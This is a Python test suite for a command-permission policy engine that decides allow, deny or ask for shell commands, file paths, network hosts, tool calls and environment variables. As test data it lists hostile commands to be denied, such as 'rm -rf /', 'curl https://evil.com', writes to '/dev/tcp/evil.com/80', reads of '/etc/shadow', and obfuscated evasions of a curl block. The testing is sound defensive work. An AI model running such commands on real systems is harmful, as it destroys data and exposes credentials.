from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support.policies import policy, settings, sources

from carrel.policy.rules.decide import (
    _by_languages,
    decide_environment,
    decide_file,
    decide_mcp,
    decide_network,
    decide_shell,
    decide_tree,
)
from carrel.policy.rules.layers import Layer, Policy


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        # The flow of the seed: in the deny list, in the allow list, in neither.
        ("grep -r 'error' logs/", "allow", "shell(grep:*)"),
        ("pip install pandas", "allow", "shell(pip install:*)"),
        ("curl https://evil.com", "deny", "shell(curl:*)"),
        ("docker build .", "ask", None),
        # Each deny rule.
        ("rm -rf /", "deny", "shell(rm -rf /:*)"),
        ("rm -rf / --no-preserve-root", "deny", "shell(rm -rf /:*)"),
        ("rm -rf /*", "deny", "shell(rm -rf /*:*)"),
        ("rm -rf /home", "deny", "shell(rm -rf /*:*)"),
        ("rm -rf build", "ask", None),
        ("rm -rf $x", "ask", "shell(rm -rf /:*)"),
        ("sudo ls", "deny", "shell(sudo:*)"),
        ("chmod 777 x", "deny", "shell(chmod 777:*)"),
        ("chmod 644 x", "ask", None),
        ("chmod -R 777 x", "ask", "shell(chmod 777:*)"),
        ("wget x", "deny", "shell(wget:*)"),
        ("nc -l 1", "deny", "shell(nc:*)"),
        ("ncat x", "deny", "shell(ncat:*)"),
        ("mount /x", "deny", "shell(mount:*)"),
        ("umount /x", "deny", "shell(umount:*)"),
        ("chroot / ls", "deny", "shell(chroot:*)"),
        ("nsenter -t 1 ls", "deny", "shell(nsenter:*)"),
        ("cat < /etc/shadow", "deny", "file(read:/etc/shadow:*)"),
        ("echo x > /etc/hosts", "deny", "file(write:/etc/**:*)"),
        ("cat < /proc/1/environ", "deny", "file(read:/proc/**:*)"),
        ("echo x > /dev/tcp/evil.com/80", "deny", None),
        # However it is written.
        ("ls; curl x", "deny", "shell(curl:*)"),
        ("ls | xargs curl", "deny", "shell(curl:*)"),
        ("bash -c 'ls && \"cu\"rl x'", "deny", "shell(curl:*)"),
        ("echo $(curl x)", "deny", "shell(curl:*)"),
        ("/usr/bin/curl x", "deny", "shell(curl:*)"),
        ("./curl x", "deny", "shell(curl:*)"),
        ("find . -exec curl {} \\;", "deny", "shell(curl:*)"),
        ("f() { curl x; }; f", "deny", "shell(curl:*)"),
        ("$x", "ask", None),
        ("ls (", "ask", None),
        ("git status && git log", "allow", "shell(git status:*)"),
        ("git push", "ask", None),
        ("cd data && ls > ../output/list.txt", "allow", "shell(cd:*)"),
        ("ls > /tmp/x", "ask", None),
        # sources.json.
        ("pip install pyautogui", "deny", "package_managers.pip.blocked_packages: pyautogui"),
        ("git clone https://github.com/a/b", "allow", "shell(git clone:*)"),
        ("git clone https://evil.com/a/b", "deny", "git.allowed_remotes"),
        ("npm install x", "deny", "package_managers.npm.enabled: false"),
        ("python3.12 x.py", "deny", "runtime.languages"),
    ],
)
def test_the_examples_decide_every_case(example: Policy, command: str, verdict: str, rule: str | None) -> None:
    found = decide_shell(example, command)
    assert found.verdict == verdict, found
    if rule is not None:
        assert found.rule == rule
        assert found.source
    assert found.reason


def test_an_argument_list_is_decided_as_it_is(example: Policy) -> None:
    assert decide_shell(example, ["echo", "; curl x"]).verdict == "allow"
    assert decide_shell(example, ["env", "curl"]).verdict == "deny"
    assert decide_shell(example, []).verdict == "ask"


def test_every_part_is_told(example: Policy) -> None:
    found = decide_shell(example, "timeout 5 curl x | grep y > z")
    assert [(part.kind, part.text, part.verdict.verdict) for part in found.parts] == [
        ("shell", "timeout 5 curl x", "ask"),
        ("shell", "curl x", "deny"),
        ("shell", "grep y", "allow"),
        ("file", "write /workspace/ctx-1/z", "allow"),
    ]
    assert found.parts[1].via == ("timeout",)


@pytest.mark.parametrize(
    ("operation", "path", "verdict"),
    [("read", "/workspace/ctx-1/a", "allow"), ("write", "/workspace/ctx-1", "allow"), ("delete", "/workspace/ctx-1/a/b", "allow"), ("read", "/etc/shadow", "deny"),
     ("read", "/etc/passwd", "ask"), ("write", "/etc/passwd", "deny"), ("read", "/workspace/ctx-1/../../etc/shadow", "deny"), ("read", "//etc//shadow", "deny"),
     ("read", "/workspace/ctx-2/a", "ask"), ("read", "/proc/self/environ", "deny")],
)  # fmt: skip
def test_files(example: Policy, operation: str, path: str, verdict: str) -> None:
    assert decide_file(example, operation, path).verdict == verdict  # type: ignore[arg-type]


def test_hosts(example: Policy) -> None:
    found = decide_network(example, "api.github.com", 443)
    assert (found.verdict, found.rule) == ("deny", "network(outbound:*)")
    rules = settings(["network(outbound:b.example)"], ["network(outbound:c.example:25)"])
    resources = sources(
        web_access={"allowed_domains": ["a.example", "b.example", "c.example"], "blocked_domains": ["*.internal"]}
    )
    both = Policy.of([Layer("settings.json", rules, resources)], context_id="c")
    verdicts = {
        host: decide_network(both, host, 443).verdict
        for host in ("a.example", "b.example", "c.example", "x.internal", "d.example")
    }
    assert verdicts == {
        "a.example": "allow",
        "b.example": "allow",
        "c.example": "allow",
        "x.internal": "deny",
        "d.example": "deny",
    }
    assert decide_network(both, "c.example", 25).verdict == "deny"
    assert decide_network(policy(), "a.example", 443).verdict == "ask"
    assert decide_network(policy(), "a.example", 1).verdict == "deny"
    assert decide_network(Policy.open(), "a.example", 1).verdict == "allow"


def test_tools() -> None:
    made = policy(["mcp(github:get_*)", "mcp(files:*)"], ["mcp(files:delete)"])
    verdicts = {
        name: decide_mcp(made, *name.split(":")).verdict
        for name in ("github:get_x", "github:push", "files:read", "files:delete")
    }
    assert verdicts == {"github:get_x": "allow", "github:push": "ask", "files:read": "allow", "files:delete": "deny"}
    assert decide_mcp(Policy.open(), "a", "b").verdict == "allow"


def test_the_environment_a_command_is_given() -> None:
    assert decide_environment(policy(), ["FOO", "LD_PRELOAD"]).verdict == "ask"
    assert decide_environment(policy(), ["FOO"]).verdict == "allow"
    assert decide_environment(Policy.open(), ["LD_PRELOAD"]).verdict == "allow"


def test_sources_without_settings_only_refuse() -> None:
    made = Policy.of([Layer("sources.json", None, sources(package_managers={"npm": {"enabled": False}}))])
    assert decide_shell(made, "npm install x").verdict == "deny"
    assert decide_shell(made, "anything $x | (y)").verdict == "allow"


COMMANDS = st.lists(
    st.sampled_from(
        ["ls x", "curl y", "make", "git push", "git -C a push", "$q", "cat $q", "echo $(curl z)", "bash -c 'make'"]
    ),
    min_size=1,
    max_size=4,
)
RULES = st.lists(
    st.sampled_from(
        [
            "shell(ls:*)",
            "shell(curl:*)",
            "shell(make)",
            "shell(git:*)",
            "shell(git push:*)",
            "shell(cat:*)",
            "shell(bash:*)",
        ]
    ),
    max_size=4,
)


@given(RULES, RULES, RULES, COMMANDS)
def test_a_rule_more_in_the_deny_list_never_loosens(
    allow: list[str], deny: list[str], more: list[str], commands: list[str]
) -> None:
    text = "; ".join(commands)
    before = decide_shell(policy(allow, deny), text)
    after = decide_shell(policy(allow, [*deny, *more]), text)
    assert after.strictness >= before.strictness


@given(RULES, RULES, COMMANDS, COMMANDS)
def test_more_commands_never_loosen(allow: list[str], deny: list[str], one: list[str], two: list[str]) -> None:
    made = policy(allow, deny)
    alone, together = decide_shell(made, "; ".join(one)), decide_shell(made, "; ".join([*one, *two]))
    assert together.strictness >= alone.strictness


def test_many_rules_are_decided() -> None:
    rules = [f"shell(git sub{number}:*)" for number in range(10_000)]
    made = policy(["shell(git:*)"], rules)
    assert decide_shell(made, "git sub77 x").rule == "shell(git sub77:*)"
    assert decide_shell(made, "git other").verdict == "allow"
    assert decide_shell(made, 'git "$x"').verdict == "ask"


@pytest.mark.parametrize(
    ("operation", "path", "verdict", "surely"),
    [
        ("delete", "/workspace/a", "deny", "deny"),
        ("delete", "/workspace/a/b", "deny", "deny"),
        ("delete", "/workspace/a/b/x", "ask", "allow"),
        ("delete", "/workspace", "deny", "deny"),
        ("delete", "/workspace/c", "ask", "allow"),
        ("read", "/workspace/c/d", "allow", "allow"),
        ("read", "/elsewhere", "ask", "ask"),
    ],
)
def test_a_folder_is_all_that_is_in_it(operation: str, path: str, verdict: str, surely: str) -> None:
    allow = ["file(delete:/workspace/**)", "file(read:/workspace/**)"]
    deny = ["file(delete:/workspace/a/b/*.db)", "file(delete:/**/.git/config)", "file(delete:/workspace/*/k/l)"]
    rules = policy(allow, deny)
    assert decide_tree(rules, operation, path).verdict == verdict  # type: ignore[arg-type]
    assert decide_tree(rules, operation, path, surely=True).verdict == surely  # type: ignore[arg-type]
    assert decide_tree(Policy.open(), operation, path).verdict == "allow"  # type: ignore[arg-type]


RUNTIME = sources(runtime={"languages": ["python3.11", "bash"]}).runtime


@pytest.mark.parametrize(
    "name", ["python", "python3", "python3.11", "python3.11.4", "/usr/bin/python3", "bash", "sh", "ls", "nodejsx"]
)
def test_declared_languages_run(name: str) -> None:
    assert list(_by_languages(RUNTIME, (name, "x"), "s")) == []


@pytest.mark.parametrize(
    "name", ["python2", "python3.12", "python3.1", "node", "perl", "ruby", "/opt/node/bin/node", "zsh", "php8.1"]
)
def test_languages_that_are_not_declared_do_not_run(name: str) -> None:
    assert [each.verdict for each in _by_languages(RUNTIME, (name, "x"), "s")] == ["deny"]


def test_every_language_runs_when_none_is_declared() -> None:
    assert list(_by_languages(sources().runtime, ("node",), "s")) == []
